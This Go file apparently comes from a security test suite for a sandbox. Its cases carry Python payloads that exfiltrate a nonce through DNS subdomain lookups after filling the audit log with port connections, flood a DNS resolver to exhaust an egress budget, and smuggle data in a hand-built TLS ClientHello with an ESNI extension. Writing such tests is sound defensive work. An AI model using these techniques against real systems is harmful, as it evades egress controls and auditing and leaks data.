package corpus

import (
	"strings"

	"github.com/enclave-run/enclave"
)

// fillRows takes all rows of a record: each port of an address is a place.
const fillRows = `
for p in range(1000, 1210):
    try: socket.create_connection(('` + sink4 + `', p), 1)
    except OSError: pass
`

// askNames looks up and dials names below the allowed one, each of which says
// something.
const askNames = `
import socket
print('$ARMED', flush=True)
%FILL%
n = 0
for i in range(60):
    try: socket.create_connection(('%d-$NONCE.` + allowedHost + `' % i, 80), 2).sendall(b'$NONCE')
    except OSError: n += 1
print('REFUSED', n)
`

// askLoop asks one name without end, over one connection or by datagrams.
const askLoop = `
import socket, threading, time
server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\x07allowed\x07example\x03com\0\0\1\0\1'
print('$ARMED', flush=True)
def stream():
    while True:
        try:
            s = socket.create_connection((server, 53), 2)
            while True:
                s.sendall(len(q).to_bytes(2, 'big') + q); s.recv(512)
        except OSError: time.sleep(0.01)
def datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    while True:
        try: s.sendto(q, (server, 53)); s.recv(512)
        except OSError: pass
for f in (stream, datagrams): threading.Thread(target=f, daemon=True).start()
time.sleep(%SECONDS%)
`

// helloWithESNI is a ClientHello whose server_name is the allowed host, with the
// encrypted_server_name extension of the drafts before ECH (0xffce).
const helloWithESNI = `
import socket
def ext(kind, body): return kind.to_bytes(2, 'big') + len(body).to_bytes(2, 'big') + body
name = b'` + allowedHost + `'
sni = ext(0, (len(name) + 3).to_bytes(2, 'big') + b'\0' + len(name).to_bytes(2, 'big') + name)
exts = sni + ext(%KIND%, b'$NONCE')
body = b'\x03\x03' + bytes(32) + b'\0' + b'\0\2\x13\x01' + b'\1\0' + len(exts).to_bytes(2, 'big') + exts
hello = b'\1' + len(body).to_bytes(3, 'big') + body
print('$ARMED', flush=True)
try:
    s = socket.create_connection(('` + allowedHost + `', 443), 5)
    s.sendall(b'\x16\x03\x01' + len(hello).to_bytes(2, 'big') + hello)
    s.settimeout(3)
    print('GOT', s.recv(10))
except OSError as e: print(e)
`

// attemptAttacks are of group R: what must be on record, and paid for, before it
// happens.
var attemptAttacks = []attack{
	{
		id:      "R10",
		code:    strings.Replace(askNames, "%FILL%", fillRows, 1),
		request: allow("*." + allowedHost),
		judge: func(r *run) []finding {
			rows := r.attempts("egress_denied")
			for _, row := range rows {
				if strings.Contains(row, " * budget ") {
					r.proof("%d rows, the rest in %q", len(rows), row)
					return nil
				}
			}
			return []finding{found(auditBreak, "no row counts what had none: %d rows", len(rows))}
		},
		breaks: exfil,
		control: allowing("a record with room", func(*run, *enclave.SessionRequest) {}).changed(func(a *attack) {
			a.code = strings.Replace(askNames, "%FILL%", "", 1)
		}),
	},
	{
		id:   "R11",
		code: strings.Replace(askLoop, "%SECONDS%", "60", 1),
		request: func(_ *run, req *enclave.SessionRequest) {
			allow(allowedHost)(nil, req)
			req.Limits.EgressBytes = 200_000
		},
		ends:   &ends{kill: "egress_exceeded", resource: "egressBytes"},
		breaks: spoof,
		control: allowing("a budget of 100 MB", func(_ *run, req *enclave.SessionRequest) {
			req.Limits.EgressBytes = 100_000_000
		}).changed(func(a *attack) { a.code = strings.Replace(askLoop, "%SECONDS%", "5", 1) }),
	},
	{
		id:      "R12",
		code:    strings.Replace(helloWithESNI, "%KIND%", "0xffce", 1),
		request: allow(allowedHost),
		ends:    &ends{denied: []string{"tcp " + allowedHost + " 443 encrypted_name 1"}},
		breaks:  exfil,
		control: allowing("an extension that hides no name", func(*run, *enclave.SessionRequest) {}).changed(func(a *attack) {
			a.code = strings.Replace(helloWithESNI, "%KIND%", "0x0015", 1)
		}),
	},
}
